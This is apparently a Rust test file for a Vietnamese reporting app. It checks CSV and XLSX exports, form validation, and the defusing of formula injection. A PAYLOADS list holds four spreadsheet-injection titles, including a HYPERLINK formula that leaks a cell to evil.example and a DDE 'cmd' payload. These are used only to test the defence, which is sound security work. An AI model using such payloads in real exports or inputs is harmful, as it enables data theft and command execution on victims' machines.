//! Report exports read back by independent readers: the CSV with the `csv` crate (BOM,
//! headers, literal cells, formula text defused), the XLSX with `zip` (a valid archive whose
//! CRCs match) and `calamine` (sheet names, literal cells, numbers and dates as such); and the
//! population form's validation (all rows or nothing).

use std::io::{Cursor, Read};

use calamine::{Data, Reader, Xlsx};

use crate::both;
use crate::helpers::{Backend, TestApp, Visitor, hanoi_day};
use crate::reports::{known_dataset, period};
use loa::store::{PostRecord, VariantRow};

/// The titles security review F2 published: each would run as a formula in Excel.
pub const PAYLOADS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(A1)",
];

/// A workbook opened the way a spreadsheet would: the zip's central directory read and every
/// entry's CRC checked by `zip`, then the sheets by `calamine`.
pub fn open_workbook(bytes: &[u8]) -> Xlsx<Cursor<Vec<u8>>> {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes.to_vec())).expect("a valid zip");
    for i in 0..archive.len() {
        let mut entry = archive.by_index(i).unwrap();
        let name = format!("{:?}", entry.name());
        let mut sink = Vec::new();
        // Reading to the end makes `zip` compare the entry's CRC-32 with the directory's.
        entry
            .read_to_end(&mut sink)
            .unwrap_or_else(|e| panic!("{name}: {e}"));
    }
    calamine::open_workbook_from_rs(Cursor::new(bytes.to_vec())).expect("calamine reads it")
}

/// One part of the archive as text (styles, sheet XML), for what calamine does not expose.
pub fn part(bytes: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes.to_vec())).unwrap();
    let mut text = String::new();
    archive
        .by_name(name)
        .unwrap_or_else(|_| panic!("{name} missing"))
        .read_to_string(&mut text)
        .unwrap();
    text
}

/// A CSV export's rows as the `csv` crate reads them, after checking and removing the BOM.
async fn csv_rows(who: &Visitor, query: &str) -> Vec<Vec<String>> {
    let resp = who
        .http
        .get(format!("{}/reports/export.csv?{query}", who.base))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200, "{query}");
    let bytes = resp.bytes().await.unwrap();
    assert_eq!(
        &bytes[..3],
        &[0xEF, 0xBB, 0xBF],
        "UTF-8 byte-order mark for Excel"
    );
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&bytes[3..]);
    reader
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect()
}

fn day_serial(day: &str) -> f64 {
    let d = time::Date::parse(
        day,
        time::macros::format_description!("[year]-[month]-[day]"),
    )
    .unwrap();
    (d - time::macros::date!(1899 - 12 - 30)).whole_days() as f64
}

fn text(s: &str) -> Data {
    Data::String(s.to_string())
}

async fn csv_and_xlsx_exports(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    known_dataset(&app).await;
    let manager = app.logged_in("mai", "manager", "").await;
    let resp = manager
        .http
        .get(format!("{}/reports/export.csv?{}", app.base, period()))
        .send()
        .await
        .unwrap();
    assert!(
        resp.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .contains("loa-don_vi.csv")
    );
    let rows = csv_rows(&manager, &period()).await;
    assert_eq!(
        rows[0][..7],
        [
            "Mã",
            "Đơn vị",
            "Từ ngày",
            "Đến ngày",
            "Bài của TP cho đơn vị",
            "Bài đơn vị tự đăng",
            "Lượt xem"
        ]
    );
    let ba_dinh = rows.iter().find(|r| r[0] == "001").unwrap();
    assert_eq!(
        (
            ba_dinh[1].as_str(),
            ba_dinh[2].as_str(),
            ba_dinh[6].as_str(),
            ba_dinh[11].as_str(),
            ba_dinh[14].as_str()
        ),
        ("Quận Ba Đình", hanoi_day(-1).as_str(), "250", "3", "15")
    );
    let weeks = csv_rows(&manager, &format!("{}&table=tuan", period())).await;
    assert_eq!(weeks[0][0], "Tuần (thứ Hai)");
    assert_eq!(
        manager.get("/reports/export.csv?table=nope").await.status,
        404
    );

    let resp = manager
        .http
        .get(format!("{}/reports/export.xlsx?{}", app.base, period()))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    assert!(
        resp.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .contains("loa-bao-cao.xlsx")
    );
    let bytes = resp.bytes().await.unwrap();
    let mut book = open_workbook(&bytes);
    assert_eq!(
        book.sheet_names(),
        ["Đơn vị", "Theo tuần", "PAPI", "Bài nổi bật", "Thi đua"]
    );
    let units = book.worksheet_range("Đơn vị").unwrap();
    assert_eq!(units.start(), Some((0, 0)));
    assert_eq!(
        (units.get((0, 0)), units.get((0, 16))),
        (Some(&text("Mã")), Some(&text("Tương tác / 1.000 dân")))
    );
    // Row 2 is the city's own row, row 3 Ba Đình (rows counted from 1 as Excel does).
    assert_eq!(units.get((1, 1)), Some(&text("Kênh chung của Thành phố")));
    assert_eq!(units.get((2, 0)), Some(&text("001")), "codes stay text");
    assert_eq!(units.get((2, 1)), Some(&text("Quận Ba Đình")));
    // Numbers are numbers: views 250, link clicks 3, engagement 15.
    assert_eq!(
        (units.get((2, 6)), units.get((2, 11)), units.get((2, 14))),
        (
            Some(&Data::Float(250.0)),
            Some(&Data::Float(3.0)),
            Some(&Data::Float(15.0))
        )
    );
    // The first day is a real date (a serial with a date format), not text.
    match units.get((2, 2)) {
        Some(Data::DateTime(d)) => assert_eq!(d.as_f64(), day_serial(&hanoi_day(-1))),
        other => panic!("C3 is not a date: {other:?}"),
    }
    let top = book.worksheet_range("Bài nổi bật").unwrap();
    assert_eq!(top.get((0, 0)), Some(&text("Bài đăng")));
    assert_eq!(top.get((1, 0)), Some(&text("Công khai ngân sách")));
    let ranking = book.worksheet_range("Thi đua").unwrap();
    assert_eq!(
        (ranking.get((0, 0)), ranking.get((1, 0))),
        (Some(&text("Hạng")), Some(&Data::Float(1.0)))
    );
    // What calamine does not show: the header row frozen and bold, the formats Excel applies.
    let sheet = part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(
        sheet.contains("ySplit=\"1\"") && sheet.contains("state=\"frozen\""),
        "{sheet}"
    );
    assert!(sheet.contains("<cols>"), "column widths are set");
    let styles = part(&bytes, "xl/styles.xml");
    for f in ["dd/mm/yyyy", "#,##0", "<b/>"] {
        assert!(styles.contains(f), "{f} not in styles.xml");
    }

    // In English the sheets are named in English.
    let english = app.logged_in("ann", "manager", "").await;
    english
        .post("/lang", &[("lang", "en"), ("next", "/")])
        .await;
    let bytes = english
        .http
        .get(format!("{}/reports/export.xlsx?{}", app.base, period()))
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    assert_eq!(
        open_workbook(&bytes).sheet_names(),
        ["Units", "By week", "PAPI", "Top posts", "Emulation ranking"]
    );
}
both!(csv_and_xlsx_exports);

/// Security review F2: post titles that a spreadsheet would run as formulas leave in the CSV
/// with a leading apostrophe; in the XLSX they are text cells, never formulas.
async fn formula_titles_are_defused_in_every_export(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let officer = app.logged_in("lan", "officer", "").await;
    let cid = officer.new_campaign("Công thức").await;
    let author = app.state.store.campaign(cid).await.unwrap().created_by;
    let records: Vec<PostRecord> = PAYLOADS
        .iter()
        .map(|title| PostRecord {
            title: title.to_string(),
            body: "Nội dung".into(),
            variants: vec![VariantRow {
                channel: "facebook".into(),
                title: title.to_string(),
                summary: String::new(),
                body: "Nội dung".into(),
                edited: false,
            }],
            ..PostRecord::default()
        })
        .collect();
    let ids = app
        .state
        .store
        .create_posts(cid, author, loa::content::PostStatus::Draft, &records)
        .await
        .unwrap();
    for id in ids {
        app.state
            .store
            .backfill_published(id, loa::clock::now_ms(), author, &[])
            .await
            .unwrap();
    }
    let manager = app.logged_in("mai", "manager", "").await;
    let rows = csv_rows(&manager, &format!("{}&table=bai_noi_bat", period())).await;
    let titles: Vec<&str> = rows[1..].iter().map(|r| r[0].as_str()).collect();
    for p in PAYLOADS {
        assert!(
            titles.contains(&format!("'{p}").as_str()),
            "{p}: {titles:?}"
        );
    }
    // Every text cell is safe, numbers included as they were (the report rows too).
    for table in ["don_vi", "tuan", "papi", "bai_noi_bat", "thi_dua"] {
        for row in csv_rows(&manager, &format!("{}&table={table}", period())).await {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '@', '\t', '\r'])
                        && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                    "{table}: {cell}"
                );
            }
        }
    }

    let bytes = manager
        .http
        .get(format!("{}/reports/export.xlsx?{}", app.base, period()))
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    let mut book = open_workbook(&bytes);
    let top = book.worksheet_range("Bài nổi bật").unwrap();
    let cells: Vec<Data> = (1..top.height())
        .filter_map(|r| top.get((r, 0)).cloned())
        .collect();
    for p in PAYLOADS {
        assert!(cells.contains(&text(p)), "{p} is a text cell: {cells:?}");
    }
    let formulas = book.worksheet_formula("Bài nổi bật").unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formulas"
    );
}
both!(formula_titles_are_defused_in_every_export);

async fn population_input_is_validated_and_all_or_nothing(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let officer = app.logged_in("lan", "officer", "").await;
    let page = officer
        .post(
            "/reports/population",
            &[
                ("population_001", "250000"),
                ("year_001", "2024"),
                ("source_001", "Niên giám"),
                ("population_002", "nhiều"),
                ("year_002", "2024"),
                ("source_002", "Niên giám"),
                ("population_003", "150000"),
                ("year_003", "1800"),
                ("source_003", ""),
            ],
        )
        .await;
    assert_eq!(page.status, 422);
    for m in [
        "Đơn vị 002: dân số phải là số nguyên",
        "Đơn vị 003: năm của số liệu",
        "Đơn vị 003: cần ghi nguồn",
    ] {
        assert!(page.body.contains(m), "{m} missing");
    }
    assert!(
        page.body.contains("value=\"nhiều\""),
        "entered values are shown again"
    );
    assert!(
        app.state
            .store
            .populations("2024")
            .await
            .unwrap()
            .is_empty(),
        "nothing stored half-valid"
    );
    let page = officer
        .post(
            "/reports/population",
            &[
                ("population_001", "30000000"),
                ("year_001", "2024"),
                ("source_001", "x"),
            ],
        )
        .await;
    assert_eq!(page.status, 422);
    let page = officer
        .post(
            "/reports/population",
            &[
                ("population_001", "250000"),
                ("year_001", "2024"),
                ("source_001", "Niên giám"),
            ],
        )
        .await;
    assert!(page.redirects_to("/reports/population"));
    let stored = app.state.store.populations("2024").await.unwrap();
    assert_eq!(
        (stored.len(), stored[0].population, stored[0].year),
        (1, 250_000, 2024)
    );
}
both!(population_input_is_validated_and_all_or_nothing);
